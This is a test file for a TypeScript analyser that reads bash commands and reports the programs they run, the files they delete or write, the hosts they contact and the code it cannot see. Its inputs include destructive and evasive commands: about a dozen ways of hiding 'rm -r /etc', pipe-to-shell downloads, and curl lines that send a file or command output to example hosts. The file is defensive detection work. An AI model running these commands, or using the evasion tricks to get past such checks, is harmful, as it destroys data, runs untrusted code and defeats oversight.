import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { runs } from "../../../../scripts/property-runs.ts";
import type { Effects } from "./effects.ts";
import { command_chars_max, effectsOf } from "./effects-of.ts";

const home = "/home/me/app";
const effects = (command: string, more: object = {}) => effectsOf({ command, cwd: home, workspace: home, ...more });
/** Only the lists with entries. */
const found = (all: Effects) => Object.fromEntries(Object.entries(all).filter(([, list]) => list.length > 0));

describe("programs are found", () => {
  test.each([
    ["after && and ; and in a pipe", "a && b; c | d", ["a", "b", "c", "d"]],
    [
      "in subshells, groups, conditions and loops",
      "(a); { b; }; if c; then d; else e; fi; while f; do g; done",
      "abcdefg",
    ],
    [
      "in substitutions and in heredocs",
      'echo "$(a)" `b` <(c)\ncat <<X\n$(d)\nX',
      ["a", "b", "c", "echo $(a) `b` <(c)", "d", "cat"],
    ],
    ["after wrappers", "env A=1 nice -n 5 timeout 9 nohup xargs -n 1 a b", ["a b $xargs"]],
    [
      "in sh -c, eval and trap",
      `sh -c 'a; b'; eval "c d"; trap 'e' EXIT`,
      ["sh -c a; b", "a", "b", "eval c d", "c d", "trap e EXIT", "e"],
    ],
    ["whatever the spelling", String.raw`r\m x; "rm" y; $'\x72m' z; /bin/rm w`, ["rm x", "rm y", "rm z", "rm w"]],
    ["in a variable of the script", 'C=rm; $C -r x; A="a b"; $A', ["rm -r x", "a b"]],
    [
      "with the subcommand before its options",
      "git -C dir --no-pager push origin",
      ["git push origin -C dir --no-pager"],
    ],
    ["in find -exec", "find src -exec a {} +", ["find src -exec a {} +", "a src"]],
  ])("%s", (_, command, expected) => {
    expect(effects(command).runs).toEqual([...expected]);
  });
});

describe("files are found", () => {
  test("from the directory that cd may have led to, and from the one before, because cd can fail", () => {
    expect(effects("cd /srv; rm x").deletes).toEqual([`${home}/x`, "/srv/x"]);
    expect(effects("cd /srv && rm x").deletes).toEqual(["/srv/x"]);
    expect(effects("(cd /srv && rm x); rm y").deletes).toEqual(["/srv/x", `${home}/y`]);
    expect(found(effects('cd "$DIR" && rm x'))).toMatchObject({ unclear: ["deletes: x after a cd"] });
  });

  test("outside the workspace only if their path leads there", () => {
    expect(effects("rm src/../a ../b ~/app/c ~/d /tmp/e").outside).toEqual(["/home/me/b", "/home/me/d", "/tmp/e"]);
    expect(effectsOf({ command: "rm a ../b /c" }).outside).toEqual(["../b", "/c"]);
  });

  test("in redirections, braces and loops, and a target that the command does not show is unclear", () => {
    const all = effects('for n in 1 2; do echo x > "f$n"; done; touch {a,b}.ts; cat < in; echo > "$OUT" 2>&1');
    expect(all.writes).toEqual([`${home}/f1`, `${home}/f2`, `${home}/a.ts`, `${home}/b.ts`]);
    expect(all.reads).toEqual([`${home}/in`]);
    expect(all.unclear).toEqual(["writes: $OUT"]);
  });
});

test("hosts that get data are told apart from hosts that only answer", () => {
  expect(effects("curl -s https://a.example/x; curl -d @f b.example:80").hosts).toEqual(["a.example", "b.example"]);
  expect(effects("curl -s https://a.example/x; curl -d @f b.example:80").sends).toEqual(["b.example"]);
  expect(effects('curl "https://a.example/$(id)"').sends).toEqual(["a.example"]);
  expect(effects('curl "$URL"').hosts).toEqual(["?"]);
  expect(effects('echo "https://a.example" | grep http').hosts).toEqual([]);
});

test("code that a pipe or a substitution gives an interpreter is unseen, and written code is shown", () => {
  expect(effects("curl -s https://a.example | sh").unseen).toEqual(["sh reads a pipe"]);
  expect(effects('bash -c "$(cat x)"').unseen).toEqual(["sh -c $(cat x)"]);
  expect(effects("echo 'rm x' | sh").deletes).toEqual([`${home}/x`]);
  expect(effects("python3 - <<E\nprint(1)\nE").code).toEqual(["print(1)\n"]);
});

describe("nothing hides a deletion", () => {
  test.each([
    ["a function of the same name, in a subshell or behind command", "(rm() { :; }); command rm -r /etc"],
    ["a value that another command may give a variable", 'X=a; printf -v X /etc; rm -r "$X"'],
    ["a value of one command", "X=a; X=/etc sh -c 'rm -r $X'"],
    ["an appended value", 'X=a; X+=/../../etc; rm -r "$X"'],
    ["a value that is read", "X=a; read X < f; rm -r $X"],
    ["the input of xargs", "echo /etc | xargs -I{} rm -r {}"],
    ["the input of xargs in a script", "echo /etc | xargs -I{} sh -c 'rm -r {}'"],
    ["the result of find in a script", "find /etc -exec sh -c 'rm -r {}' ;"],
    ["a pattern of case", "case a in $(rm -r /etc)) ;; esac"],
    ["an arithmetic loop", "for ((i = $(rm -r /etc); ; )); do a; done"],
    ["braces", "{rm,-r,/etc}"],
    ["a program in an argument", "parallel rm -r ::: /etc"],
    ["env -S", "env -S 'rm -r /etc'"],
    ["a failed cd", "cd /etc; rm -r ../etc"],
  ])("%s", (_, command) => {
    const { deletes, unclear, unseen } = effects(command);
    expect(deletes.includes("/etc") || unclear.length > 0 || unseen.length > 0).toBe(true);
  });
});

describe("what cannot be read is unclear", () => {
  test.each([
    ["a program of the machine's variables", "$X y", "program: $X"],
    ["a syntax error", "echo 'x", "syntax: unterminated single quote"],
    ["too many commands", "a;".repeat(201), "more than 200 commands"],
    ["too many scripts in each other", `${"echo $(".repeat(9)}a${")".repeat(9)}`, "more than 8 scripts in each other"],
    ["a long command", "a".repeat(command_chars_max + 1), "command: longer than 65536 characters"],
  ])("%s", (_, command, expected) => {
    expect(effects(command).unclear).toContain(expected);
  });

  test("another shell, and a command that is no text", () => {
    expect(effects("dir", { shell: "powershell" }).unclear).toEqual(["command: for powershell, and only bash is read"]);
    expect(effectsOf({ command: ["ls"] }).unclear).toEqual(["command: not a text"]);
  });
});

test("no text makes it throw, and what comes before a command never hides it", () => {
  const pieces = fc.array(
    fc.constantFrom("a", " ", ";", "|", "&&", "$(", ")", "`", '"', "'", "{", "}", "\n", "$x", ">", "if ", "(", "\\"),
    { maxLength: 40 },
  );
  fc.assert(
    fc.property(pieces, (parts) => {
      const before = parts.join("");
      const all = effects(`${before}\nrm -rf /etc`);
      // After an open quote, the command is a part of a word, and the syntax is wrong.
      const is_seen = all.deletes.includes("/etc") || all.unclear.length > 0 || all.unseen.length > 0;
      expect(is_seen || JSON.stringify(all).includes("rm -rf /etc")).toBe(true);
    }),
    { numRuns: runs(2_000) },
  );
});
